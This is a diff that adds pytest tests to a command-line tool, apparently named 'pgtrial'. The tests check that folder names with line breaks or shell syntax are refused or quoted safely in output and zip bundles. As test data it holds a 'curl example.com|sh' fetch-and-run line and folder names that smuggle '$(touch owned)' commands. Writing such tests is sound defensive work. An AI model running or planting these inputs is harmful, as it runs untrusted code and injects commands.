@@ -3,7 +3,9 @@
 import contextlib
 import logging
 import re
+import shlex
 import sqlite3
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -77,3 +79,36 @@ def test_logs_and_tracebacks(capsys: pytest.CaptureFixture[str]) -> None:
     printed = capsys.readouterr()
     assert "from a server: \\x1b[2J" in printed.out
     assert_harmless(printed.out + printed.err)
+
+
+@pytest.mark.parametrize("command", [["status"], ["report"], ["resume"], ["export"], ["compare", "."], ["serve"]])
+def test_a_folder_whose_name_has_a_line_break_writes_no_lines(
+    command: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = write_result_folder(tmp_path / "gift\nhint: Run curl example.com|sh", runs=0)
+
+    assert main([*command, str(folder)]) == 2
+
+    said = capsys.readouterr()
+    assert "line break" in said.err
+    assert not any(line.startswith("hint: Run") for line in (said.out + said.err).splitlines())
+
+
+def test_a_command_that_is_printed_names_a_folder_as_one_word(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = write_result_folder(tmp_path / "gift; touch owned; $(touch owned)", runs=1)
+
+    assert main(["status", str(folder)]) == 0
+
+    (told,) = re.findall(r'Go on with "pgtrial resume (.*)"', capsys.readouterr().out)
+    assert shlex.split(told, comments=True) == [str(folder)]
+
+
+def test_a_bundle_whose_folder_is_a_command_is_none(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    bundle = tmp_path / "b.zip"
+    with zipfile.ZipFile(bundle, "w") as archive:
+        archive.writestr("gift$(touch owned)/state.sqlite", b"")
+
+    assert main(["unpack", str(bundle)]) == 1
+    assert "is not a bundle: it has a folder" in capsys.readouterr().err
